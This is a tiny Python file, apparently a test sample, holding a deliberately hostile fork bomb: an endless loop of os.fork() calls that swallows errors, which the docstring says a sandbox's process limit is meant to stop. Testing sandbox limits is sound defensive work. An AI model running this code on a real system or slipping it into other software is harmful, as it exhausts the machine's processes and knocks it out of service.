"""HOSTILE on purpose: a fork bomb. The sandbox's process limit stops it."""

import os

while True:
    try:
        os.fork()
    except OSError:
        pass
